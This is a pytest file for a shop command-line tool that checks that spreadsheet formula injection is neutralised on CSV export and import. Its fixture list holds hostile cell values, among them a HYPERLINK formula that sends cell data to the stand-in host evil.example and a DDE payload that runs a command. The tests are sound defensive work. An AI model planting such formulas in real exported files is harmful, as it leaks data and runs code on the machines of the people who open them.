"""A file that is opened in a spreadsheet program runs nothing, and comes back as it was."""

import csv
from pathlib import Path

import pytest

from openmall.contract import spreadsheets
from tests.cli.command_line import Shell
from tests.cli.conftest import new_shop, shell, shop

__all__ = ["new_shop", "shell", "shop"]

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠A", "'=1", "''-x", "--1",
    "-1 000", "+82-2-000",
)  # fmt: skip
PLAIN = ("", "1=1", "a@example.com", "'quoted'", "-5", "-5.25", "12", "Linen", "'", " =1")


def tries() -> int:
    """Return how many texts this suite sends into files."""
    return len(FORMULAS) + len(PLAIN)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_is_read_as_it_was(text: str) -> None:
    cell = spreadsheets.safe(text)
    assert cell == f"'{text}"
    assert spreadsheets.meant(cell) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays(text: str) -> None:
    assert (spreadsheets.safe(text), spreadsheets.meant(text)) == (text, text)


def test_goods_named_like_formulas_go_out_and_come_back(shop: Shell, tmp_path: Path) -> None:
    # given a shop whose goods are named by somebody hostile
    goods, out = tmp_path / "goods.csv", tmp_path / "out.csv"
    names = [each for each in FORMULAS if each.strip() == each]
    with goods.open("w", newline="", encoding="utf-8") as file:
        made = csv.writer(file)
        made.writerow(["custom_product_code", "product_name", "supply_price"])
        made.writerows([f"C{at}", f"'{name}", "5"] for at, name in enumerate(names))
    shop.text("import", "products", str(goods), "--mall", "myshop")
    # when they are taken out
    shop.text("export", "products", str(out), "--mall", "myshop")
    # then no cell is a formula, and an import finds nothing to change
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["product_name"] for row in rows] == [f"'{name}" for name in names]
    assert [c for row in rows for c in row.values() if c and c[0] in "=+@\t\r\n"] == []
    done = shop.json("import", "products", str(out), "--mall", "myshop", "--dry-run")
    assert (done["created"], done["updated"], done["unchanged"]) == (0, 0, len(names))
